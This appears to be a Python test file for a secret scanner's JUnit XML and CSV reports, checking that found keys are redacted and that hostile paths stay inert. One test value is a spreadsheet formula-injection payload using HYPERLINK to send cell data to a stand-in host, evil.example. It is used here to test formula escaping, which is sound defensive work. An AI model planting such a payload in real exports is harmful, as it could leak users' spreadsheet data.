"""JUnit XML and CSV: one entry per finding, redacted by default, hostile file names stay inert."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

from scanner.model import Finding, ScanResult, ScanStats
from scanner.report import RenderOptions, csv_report, junit
from tests.testing.cli import invoke
from tests.testing.findings import make_finding
from tests.testing.keys import v2_key

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<b>&\x01.py'


def _finding(secret: str, **kw: Any) -> Finding:
    return make_finding(**{"line": 2, "column": 5, "secret": secret, "line_text": f'K = "{secret}"', **kw})


def _result(findings: list[Finding], errors: tuple[str, ...] = ()) -> ScanResult:
    stats = ScanStats(files_scanned=2)
    stats.errors.extend(errors)
    return ScanResult(findings, stats, target="proj", source="dir")


def test_junit_one_failing_testcase_per_finding() -> None:
    k1, k2 = v2_key(), v2_key()
    findings = [_finding(k1), _finding(k2, path=HOSTILE, commit="c" * 40, author="<dev>", date="2020-01-01")]
    xml = junit.render(_result(findings, errors=("b.py: permission denied",)), RenderOptions())
    assert k1 not in xml and k2 not in xml
    root = ET.fromstring(xml)  # well-formed despite the control character and markup in the path
    suite = root.find("testsuite")
    assert suite is not None
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("3", "2", "1")
    cases = suite.findall("testcase")
    assert [c.get("classname") for c in cases] == ["mindee-scan.mindee-api-key"] * 2 + ["mindee-scan.errors"]
    assert cases[0].get("name") == "a.py:2:5"
    assert cases[1].get("name", "").startswith('=HYPERLINK("http://evil.example/?"&A1,"x")<b>&\ufffd.py')
    failure = cases[1].find("failure")
    assert failure is not None and failure.text is not None
    assert "introduced in " + "c" * 40 in failure.text and "Treat as compromised" in failure.text
    error = cases[2].find("error")
    assert error is not None and error.get("message") == "b.py: permission denied"


def test_junit_clean_scan_is_one_passing_case_and_show_secrets_shows_them() -> None:
    root = ET.fromstring(junit.render(_result([]), RenderOptions()))
    suite = root.find("testsuite")
    assert suite is not None and suite.get("failures") == "0"
    [case] = suite.findall("testcase")
    assert case.find("failure") is None
    key = v2_key()
    assert key in junit.render(_result([_finding(key)]), RenderOptions(show_secrets=True))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_redacted_and_formula_safe() -> None:
    key = v2_key()
    text = csv_report.render(
        _result([_finding(key, path=HOSTILE), _finding(key, path="+1.py", author="@bob", commit="d" * 40)]),
        RenderOptions(),
    )
    assert key not in text
    rows = _rows(text)
    assert list(rows[0]) == list(csv_report.COLUMNS)
    assert rows[0]["path"] == "'" + HOSTILE and rows[0]["secret"] == _finding(key).redacted
    assert rows[1]["path"] == "'+1.py" and rows[1]["author"] == "'@bob"
    assert rows[0]["line"] == "2" and rows[0]["fingerprint"] == _finding(key).fingerprint
    for row in rows:  # no cell a spreadsheet would evaluate
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


def test_csv_show_secrets() -> None:
    key = v2_key()
    rows = _rows(csv_report.render(_result([_finding(key)]), RenderOptions(show_secrets=True)))
    assert rows[0]["secret"] == key


def test_cli_junit_and_csv(tmp_path: Path) -> None:
    key = v2_key()
    (tmp_path / "a.py").write_text(f'MINDEE_API_KEY = "{key}"\n')
    (tmp_path / "b.py").write_text(f'OTHER = "{v2_key()}"\nMINDEE_API_KEY = "{key}"\n')
    proc = invoke("dir", str(tmp_path), "--format", "junit")
    assert proc.returncode == 1, proc.stderr
    suite = ET.fromstring(proc.stdout).find("testsuite")
    assert suite is not None and len(suite.findall("testcase")) == 3
    out = tmp_path / "report.csv"
    proc = invoke("dir", str(tmp_path / "b.py"), "--format", "csv", "--output", str(out))
    assert proc.returncode == 1, proc.stderr
    rows = _rows(out.read_text())
    assert [(r["path"], r["line"]) for r in rows] == [("b.py", "1"), ("b.py", "2")]
    assert key not in out.read_text()
